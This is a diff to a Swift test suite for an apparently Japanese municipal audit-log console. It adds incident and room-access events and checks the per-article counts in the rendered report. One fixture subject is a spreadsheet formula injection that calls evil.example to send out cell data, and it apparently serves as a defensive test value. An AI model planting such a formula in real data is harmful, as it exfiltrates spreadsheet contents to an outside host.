@@ -44,10 +44,10 @@ struct ConsoleTests {
         // lookup the 操作者 must not see; and one event today for the dashboard.
         var events: [Event] = []
         var previous = Event.genesis
-        func add(_ time: String, _ action: String, actor: String, subject: String) {
+        func add(_ time: String, _ action: String, actor: String, subject: String, kind: String = "operation", site: String = "本庁舎") {
             let event = Event(
-                agent: "counter-01", seq: Int64(events.count + 1), time: time, kind: "operation", action: action, actor: actor,
-                subject: subject, site: "本庁舎", attrs: [:], salt: Event.randomSalt(), prev: previous
+                agent: "counter-01", seq: Int64(events.count + 1), time: time, kind: kind, action: action, actor: actor,
+                subject: subject, site: site, attrs: [:], salt: Event.randomSalt(), prev: previous
             ).sealed()
             events.append(event)
             previous = event.hash
@@ -57,6 +57,11 @@ struct ConsoleTests {
         for minute in 2..<8 { add("2026-11-28T23:0\(minute):00.000+09:00", "auth_failure", actor: "sousa01", subject: "") }
         add("2026-11-27T10:00:00.000+09:00", "lookup", actor: "P1000", subject: "住民票コード 12")
         add("2026-11-27T10:01:00.000+09:00", "lookup", actor: "P1000", subject: #"=HYPERLINK("http://evil.example/?"&A1,"x")"#)
+        // A fire and a quake shutdown (第29, 第30: not 第26), and a room entered and left (the room is the subject).
+        add("2026-11-20T14:00:00.000+09:00", "fire", actor: "P2000", subject: "電算室 分電盤", kind: "incident")
+        add("2026-11-21T03:00:00.000+09:00", "quake_shutdown", actor: "P2000", subject: "サーバー1", kind: "incident")
+        add("2026-11-24T09:00:00.000+09:00", "enter", actor: "P2000", subject: "電算室", kind: "access", site: "本庁舎 3階 通用口")
+        add("2026-11-24T09:30:00.000+09:00", "exit", actor: "P2000", subject: "電算室", kind: "access", site: "本庁舎 3階 通用口")
         add(Timestamp(date: Date()).rfc3339, "login", actor: "sousa01", subject: "")
         _ = try await agent.request(
             .POST, "/v1/agent/batches",
@@ -253,10 +258,24 @@ struct ConsoleTests {
         await kaigi.connection.shutdown()
         let events = try #require(page).events
         #expect(text.contains("<td class=\"num\">\(events.count) 件</td>"), "the period's event count \(events.count)")
-        let operations = events.filter { $0.kind == "operation" }.count
-        #expect(text.contains("操作履歴 \(operations) 件"), "operation count \(operations)")
+        let logins = events.filter { $0.kind == "operation" && ($0.action == "login" || $0.action == "logout") }.count
+        #expect(logins >= 1 && text.contains("ログイン・ログアウト \(logins) 件"), "第11: logins \(logins)")
         #expect(text.contains("山田 太郎 (sousa01)</td><td class=\"num\">2</td><td class=\"num\">2</td>"), "sousa01: two lookups, both out of hours")
         #expect(text.contains("auth_failure_burst") && text.contains("対応の記録なし"), "the critical finding and that nobody handled it")
+        #expect(text.contains("対応の記録がない重大な所見 (1 件)"), "unhandled critical findings up front")
+        // Each article counts the actions that serve it: the fire is 第29's, the quake 第30's, neither 第26's.
+        func article(_ id: String) -> String {
+            guard let start = text.range(of: "<h3>\(id) ") else { return "" }
+            let end = text.range(of: "</section>", range: start.upperBound..<text.endIndex)?.lowerBound ?? text.endIndex
+            return String(text[start.lowerBound..<end])
+        }
+        #expect(article("第29").contains("火災 1 件") && article("第30").contains("地震・落雷による停止 1 件"), "\(article("第29"))")
+        #expect(article("第26").contains("記録: 0 件"), "\(article("第26"))")
+        #expect(article("第22").contains("認証失敗 6 件") && article("第22").contains("不正アクセス 0 件"), "\(article("第22"))")
+        // 入退室 by room (the subject), not by the door's building.
+        #expect(text.contains("<tr><td>電算室</td><td>P2000</td><td class=\"num\">1</td><td class=\"num\">1</td>"), "rooms")
+        // The terminals are the agents; the hub's own chain is not one.
+        #expect(!text.contains("<tr class=\"\"><td>hub</td>") && !text.contains("<td>hub</td>"))
         // The checkpoint, as the hub serves it, verbatim on the paper.
         let escaped = note.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: ">", with: "&gt;")
         #expect(text.contains(escaped), "the cosigned checkpoint note printed in full")
